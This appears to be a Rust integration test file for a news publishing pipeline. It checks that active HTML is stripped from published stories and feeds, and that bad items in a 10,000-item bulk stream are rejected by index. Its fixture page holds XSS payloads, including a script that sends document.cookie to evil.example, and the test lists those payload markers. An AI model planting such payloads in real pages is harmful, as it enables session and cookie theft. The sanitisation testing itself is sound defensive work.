//! Hostile input through the real services: active HTML never reaches a published body or
//! feed, and a 10,000-item bulk stream with bad items among good ones accepts the good,
//! reports each bad one by index and stores nothing for them. (Empty, whitespace,
//! over-limit content, invalid UTF-8 and malformed JSON on the HTTP push are in ingest.rs;
//! deep nesting, 100,000 capitalised words and binary garbage in the pipeline's
//! tests/hostile.rs.)

use std::time::Duration;

use newsroom_proto::v1::{ListStoriesRequest, StorySubmission, SubmitOutcome, SubmitStoriesRequest};
use newsroom_tests::{
    Backend, TestDb, eventually, http,
    services::{TestPipeline, TestPublishing},
};

const HOSTILE_PAGE: &str = r#"<!doctype html><html><head><title>Council Opens New Library</title>
<style>body { background: url(javascript:alert(1)) }</style>
<script>document.location = "https://evil.example/steal?c=" + document.cookie</script></head>
<body onload="alert('onload')">
<article>
<h1>Council Opens New Library</h1>
<p onclick="alert('click')">RIVERTON: The council opened a new public library on Saturday, the mayor said, after three years of building work.</p>
<iframe src="https://evil.example/frame"></iframe>
<p>"Everyone is welcome," the head librarian said. <img src="x.png" onerror="alert('img')"> The library holds 40,000 books.</p>
<p><a href="javascript:alert('link')">Opening hours</a> are nine to six on weekdays, the council said in a statement.</p>
<svg><script>alert('svg')</script></svg>
<form action="https://evil.example/post"><input name="q"></form>
</article></body></html>"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn active_html_never_reaches_a_published_body_or_feed() {
    let pipeline = TestPipeline::start().await;
    let db = TestDb::new(Backend::Sqlite).await;
    let publishing = TestPublishing::start(&db.url, &pipeline.nats.url(), None).await;
    publishing.wait_ready().await;
    let pushed = pipeline
        .push(StorySubmission {
            source: "hostile".into(),
            source_id: Some("page-1".into()),
            content: HOSTILE_PAGE.into(),
            content_type: "text/html".into(),
            ..Default::default()
        })
        .await;
    let addr = publishing.http_addr;
    let path = format!("/stories/{}", pushed.story_id);
    let document = eventually(Duration::from_secs(30), "the published document", || {
        let path = path.clone();
        async move {
            let response = http::request(addr, "GET", &path, b"").await;
            (response.status == 200).then(|| response.json())
        }
    })
    .await;
    let feed = http::request(addr, "GET", "/feeds/all.atom", b"").await;
    let feed = String::from_utf8_lossy(&feed.body).to_lowercase();
    let text = document.to_string().to_lowercase();
    assert!(text.contains("new public library"), "the story itself is published: {document}");
    for active in [
        "<script",
        "<style",
        "<iframe",
        "<svg",
        "<form",
        "onload",
        "onclick",
        "onerror",
        "javascript:",
        "evil.example",
        "alert(",
    ] {
        assert!(!text.contains(active), "{active:?} reached the published document: {document}");
        assert!(!feed.contains(active), "{active:?} reached the feed: {feed}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_10000_item_bulk_stream_accepts_the_good_and_reports_the_bad_by_index() {
    let pipeline = TestPipeline::start().await;
    const ITEMS: usize = 10_000;
    // Every 97th item is bad, in turn: empty, whitespace, no source, unknown content type,
    // over the content limit (2 MiB).
    let oversized = "x".repeat(2 * 1024 * 1024 + 1);
    let item = |index: usize| -> (StorySubmission, Option<&'static str>) {
        let mut story = StorySubmission {
            source: "bulk-hostile".into(),
            source_id: Some(format!("item-{index}")),
            content: format!("Item {index}\n\nBody of bulk item number {index}."),
            content_type: "text/plain".into(),
            ..Default::default()
        };
        if !index.is_multiple_of(97) {
            return (story, None);
        }
        let field = match (index / 97) % 5 {
            0 => {
                story.content = String::new();
                "content"
            }
            1 => {
                story.content = " \n\t ".into();
                "content"
            }
            2 => {
                story.source = String::new();
                "source"
            }
            3 => {
                story.content_type = "application/x-msdownload".into();
                "content_type"
            }
            _ => {
                story.content = oversized.clone();
                "content"
            }
        };
        (story, Some(field))
    };
    let expected_bad: Vec<(usize, &str)> =
        (0..ITEMS).filter_map(|index| item(index).1.map(|field| (index, field))).collect();
    let requests: Vec<SubmitStoriesRequest> =
        (0..ITEMS).map(|index| SubmitStoriesRequest { story: Some(item(index).0) }).collect();
    let mut results = pipeline
        .ingest
        .client()
        .await
        .submit_stories(tokio_stream::iter(requests))
        .await
        .unwrap_or_else(|status| panic!("bulk: {status}"))
        .into_inner();
    let mut accepted = 0;
    let mut rejected = Vec::new();
    let mut next_index = 0u64;
    while let Some(result) = results.message().await.unwrap_or_else(|status| panic!("result: {status}")) {
        assert_eq!(result.index, next_index, "results come in request order");
        next_index += 1;
        match result.outcome() {
            SubmitOutcome::Accepted => accepted += 1,
            SubmitOutcome::Rejected => {
                let error =
                    result.error.unwrap_or_else(|| panic!("item {} rejected without a reason", result.index));
                assert_eq!(
                    error.code,
                    tonic::Code::InvalidArgument as i32,
                    "item {}: {error:?}",
                    result.index
                );
                rejected.push((result.index as usize, error.field));
            }
            other => panic!("item {}: unexpected {other:?}", result.index),
        }
    }
    assert_eq!(next_index as usize, ITEMS, "one result per item");
    assert_eq!(accepted, ITEMS - expected_bad.len());
    let rejected_fields: Vec<(usize, &str)> =
        rejected.iter().map(|(index, field)| (*index, field.as_str())).collect();
    assert_eq!(rejected_fields, expected_bad, "each bad item reported by index and field");

    // Nothing was stored for the bad items: the source holds exactly the good ones.
    let mut client = pipeline.ingest.client().await;
    let mut stored = 0;
    let mut page_token = String::new();
    loop {
        let page = client
            .list_stories(ListStoriesRequest {
                page_size: 500,
                page_token: page_token.clone(),
                source: Some("bulk-hostile".into()),
            })
            .await
            .unwrap_or_else(|status| panic!("list: {status}"))
            .into_inner();
        stored += page.stories.len();
        if page.next_page_token.is_empty() {
            break;
        }
        page_token = page.next_page_token;
    }
    assert_eq!(stored, accepted);
}
